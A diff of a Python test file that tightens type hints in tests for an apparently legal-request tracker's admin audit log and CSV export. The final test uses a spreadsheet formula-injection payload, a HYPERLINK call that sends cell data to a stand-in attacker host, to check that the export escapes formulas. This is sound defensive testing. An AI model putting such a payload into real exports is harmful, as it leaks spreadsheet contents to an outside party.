@@ -6,16 +6,14 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
-from collections.abc import Callable
-from typing import Any
 
 import pytest
-from sqlmodel import select
+from sqlmodel import Session, select
 
-from mlat.models import AuditEntry, MlaRequest, Role, User
+from mlat.models import AuditEntry, Role
 from mlat.services import audit
 from tests.audit_trail import trail
-from tests.conftest import Client
+from tests.conftest import Client, LoginAs, MakeRequest, MakeUser
 
 # The administrators' log page --------------------------------------------------------------
 
@@ -23,7 +21,7 @@ from tests.conftest import Client
 @pytest.mark.parametrize("url", ["/admin/audit", "/admin/audit.csv"])
 @pytest.mark.parametrize("role", [Role.officer, Role.reviewer, Role.prosecutor])
 def test_only_administrators_see_the_audit_log(
-    client: Client, login_as: Callable[..., User], url: str, role: Role, db: Any
+    client: Client, login_as: LoginAs, url: str, role: Role, db: Session
 ) -> None:
     login_as(role)
     response = client.get(url)
@@ -35,10 +33,10 @@ def test_only_administrators_see_the_audit_log(
 
 def test_admin_filters_the_log(
     client: Client,
-    login_as: Callable[..., User],
-    make_user: Callable[..., User],
-    make_request: Callable[..., MlaRequest],
-    db: Any,
+    login_as: LoginAs,
+    make_user: MakeUser,
+    make_request: MakeRequest,
+    db: Session,
 ) -> None:
     officer = make_user(Role.officer)
     request = make_request(officer, title="Ransomware at a clinic")
@@ -88,7 +86,7 @@ def test_admin_filters_the_log(
     ids=["unknown-user", "bad-email", "bad-date", "dates-reversed"],
 )
 def test_filters_that_do_not_fit_are_explained(
-    client: Client, login_as: Callable[..., User], args: dict[str, str], message: str
+    client: Client, login_as: LoginAs, args: dict[str, str], message: str
 ) -> None:
     login_as(Role.admin)
     for url in ("/admin/audit", "/admin/audit.csv"):
@@ -98,7 +96,7 @@ def test_filters_that_do_not_fit_are_explained(
         assert "There is a problem" in response.text
 
 
-def test_log_pages_newest_first(client: Client, login_as: Callable[..., User], db: Any) -> None:
+def test_log_pages_newest_first(client: Client, login_as: LoginAs, db: Session) -> None:
     login_as(Role.admin)
     for n in range(120):
         audit.record(db, action="request.view", object_type="request", object_id=1000 + n)
@@ -116,7 +114,7 @@ def test_log_pages_newest_first(client: Client, login_as: Callable[..., User], d
 
 
 def test_export_is_csv_escapes_formulas_and_is_itself_audited(
-    client: Client, login_as: Callable[..., User], db: Any
+    client: Client, login_as: LoginAs, db: Session
 ) -> None:
     formula = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
     client.login(formula, "whatever password")
